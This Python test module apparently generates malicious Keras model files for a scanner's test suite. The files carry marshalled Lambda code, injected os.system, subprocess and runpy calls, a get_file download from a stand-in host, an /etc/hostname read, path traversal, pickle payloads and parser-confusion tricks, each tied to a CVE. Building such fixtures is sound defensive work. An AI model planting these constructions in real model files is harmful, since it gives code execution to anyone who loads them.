"""Keras models: Lambda, module injection, paths and links, in HDF5 and in the v3 zip."""

# ruff: noqa: E501 (a table reads better with one entry a line)

import base64
import json
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from proofs.hostile.assembler import payload
from proofs.hostile.case import COMMAND, Case
from proofs.hostile.ziparchive import Entry, archive, plain

FIXTURES = Path(__file__).with_name("fixtures") / "hdf5.json"
_MARSHALLED = base64.b64encode(b"\xe3" + b"\0" * 40 + b"print seamark-harmless").decode()

Json = dict[str, Any]


def hdf5(name: str) -> bytes:
    """One of the committed HDF5 fixtures."""
    packed = json.loads(FIXTURES.read_text(encoding="utf-8"))
    return zlib.decompress(base64.b64decode(packed[name]))


def layer(class_name: str, config: Json, module: str = "keras.layers") -> Json:
    """A serialized object as Keras 3 writes it."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def model(*layers: Json, **extra: Any) -> Json:
    """A Sequential model of ``layers``."""
    head = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "in"})
    config = {"name": "m", "layers": [head, *layers]}
    return {**layer("Sequential", config, "keras"), **extra}


DENSE = layer("Dense", {"name": "dense", "units": 2, "activation": "relu"})
LAMBDA_CODE = {"class_name": "__lambda__",
               "config": {"code": _MARSHALLED, "defaults": None, "closure": None}}  # fmt: skip


def function(name: str, module: str = "builtins") -> Json:
    """A reference to a function, as Keras 3 writes it."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras(config: Json | bytes, **members: bytes) -> bytes:
    """A .keras file."""
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    return plain({
        "metadata.json": b'{"keras_version": "3.9.0", "date_saved": "2025-06-01@00:00:00"}',
        "config.json": text,
        "model.weights.h5": members.get("weights", hdf5("weights.h5")),
        **{name.replace("__", "."): data for name, data in members.items() if name != "weights"},
    })  # fmt: skip


def version3() -> dict[str, bytes]:
    """Keras 3 archives."""
    lam = layer("Lambda", {"name": "l", "function": LAMBDA_CODE})
    inject = layer("system", {"command": COMMAND}, "os")
    deep = layer("Sequential", {"name": "in", "layers": [layer("TimeDistributed", {"layer": lam})]})
    get_file = layer(
        "Lambda",
        {
            "name": "l",
            "function": function("get_file", "keras.utils"),
            "arguments": {
                "fname": "x",
                "origin": "https://seamark.invalid/x",
                "extract": True,
                "cache_dir": "/tmp/seamark",
            },
        },
    )
    torch_module = layer(
        "TorchModuleWrapper",
        {
            "name": "t",
            "module": {
                "class_name": "__bytes__",
                "config": {"value": base64.b64encode(payload(2)).decode()},
            },
        },
    )
    numpy_load = layer(
        "Lambda",
        {"name": "l", "function": function("load", "numpy"), "arguments": {"allow_pickle": True}},
    )
    unsafe = layer(
        "Lambda",
        {"name": "l", "function": function("enable_unsafe_deserialization", "keras.config")},
    )
    lookup = layer("StringLookup", {"name": "s", "vocabulary": "/etc/hostname"})
    lookup_url = layer(
        "IntegerLookup", {"name": "s", "vocabulary": "http://seamark.invalid/vocab.txt"}
    )
    text_path = layer("TextVectorization", {"name": "s", "vocabulary": "../../seamark.txt"})
    numbers = layer("Dense", {"name": "d", "units": 2, "activation": function("system", "os")})
    popen = layer("Dense", {"name": "d", "units": layer("Popen", {"args": COMMAND}, "subprocess")})
    return {
        "lambda": keras(model(DENSE, lam)),
        "lambda-nested": keras(model(deep)),
        "lambda-as-activation": keras(model(layer("Dense", {"units": 1, "activation": LAMBDA_CODE}))),
        "lambda-in-loss": keras(model(DENSE, compile_config={"loss": LAMBDA_CODE, "optimizer": "adam"})),
        "module-injection": keras(model(DENSE, inject)),
        "module-injection-root": keras(layer("run", {"args": COMMAND}, "subprocess")),
        "module-injection-config": keras(model(popen)),
        "function-injection": keras(model(numbers)),
        "function-in-metrics": keras(model(DENSE, compile_config={
            "optimizer": "adam", "loss": "mse", "metrics": [function("eval")]})),
        "initializer-injection": keras(model(layer("Dense", {
            "units": 1, "kernel_initializer": layer("run_path", {"path_name": "x"}, "runpy")}))),
        "get-file": keras(model(get_file)),
        "numpy-load": keras(model(numpy_load)),
        "enable-unsafe": keras(model(unsafe, lam)),
        "string-lookup-path": keras(model(lookup)),
        "integer-lookup-url": keras(model(lookup_url)),
        "text-vectorization-path": keras(model(text_path)),
        "torch-module": keras(model(torch_module)),
        # json.loads keeps the last: what a reader of the first sees is harmless.
        "duplicate-keys": keras(
            json.dumps(model(DENSE)).encode()[:-1]
            + b', "config": '
            + json.dumps(model(lam)["config"]).encode()
            + b"}"
        ),
        "utf16-config": keras(json.dumps(model(lam)).encode("utf-16")),
        "bom-config": keras(b"\xef\xbb\xbf" + json.dumps(model(lam)).encode()),
        "escaped-config": keras(json.dumps(model(lam)).replace("Lambda", "\\u004cambda").encode()),
        "config-not-json": keras(b"{'class_name': 'Lambda'"),
        "external-dataset": keras(model(DENSE), weights=hdf5("external-dataset.weights.h5")),
        "external-link": keras(model(DENSE), weights=hdf5("external-link.weights.h5")),
        "weights-are-pickle": keras(model(DENSE), weights=payload(2)),
        "asset-pickle": keras(model(DENSE), assets__pkl=payload(2)),
        "traversal": plain({"config.json": json.dumps(model(DENSE)).encode(),
                            "metadata.json": b"{}", "../../assets/x.py": b"print('seamark')"}),
        "duplicate-config": archive(
            Entry(name=b"metadata.json", data=b"{}"),
            Entry(name=b"config.json", data=json.dumps(model(lam)).encode()),
            Entry(name=b"config.json", data=json.dumps(model(DENSE)).encode())),
    }  # fmt: skip


_SOURCES = {
    "lambda": "CVE-2024-3660", "module": "CVE-2025-1550", "function": "CVE-2025-1550",
    "get-file": "CVE-2025-8747 CVE-2025-12060", "string": "CVE-2025-12058", "text": "CVE-2025-12058",
    "integer": "CVE-2025-12058", "torch-module": "CVE-2025-49655", "enable": "CVE-2025-9906",
    "external": "CVE-2026-1669", "loss": "CVE-2025-1550", "initializer": "CVE-2025-1550",
}  # fmt: skip
_ONLY_STOPPED = {"config-not-json", "utf16-config", "pickled-attribute.h5", "pickled-dataset.h5"}
_PATHS = {"string-lookup-path", "integer-lookup-url", "text-vectorization-path", "get-file", "numpy-load",
          "external-dataset", "external-link", "traversal", "weights-are-pickle", "asset-pickle"}  # fmt: skip


def _source(name: str) -> str:
    return next((s for start, s in _SOURCES.items() if name.startswith(start)), "own")


def cases() -> Iterator[Case]:
    """Keras 3 archives, then HDF5 files (whose Lambda is CVE-2025-9905's)."""
    for name in version3():
        yield Case(
            id=f"keras/v3/{name}", family="keras",
            group="v3-paths" if name in _PATHS else "v3-code",
            source=_source(name), path=f"keras/v3-{name}.keras",
            build=lambda n=name: version3()[n],
            expected="stopped" if name in _ONLY_STOPPED else "found",
        )  # fmt: skip
    for name in json.loads(FIXTURES.read_text(encoding="utf-8")):
        if name == "weights.h5":
            continue
        yield Case(
            id=f"keras/h5/{name}", family="keras",
            group="h5-links" if "external" in name or "virtual" in name else "h5-code",
            source="CVE-2025-9905" if "lambda" in name else _source(name), path=f"keras/{name}",
            build=lambda n=name: hdf5(n),
            expected="stopped" if name in _ONLY_STOPPED else "found",
        )  # fmt: skip
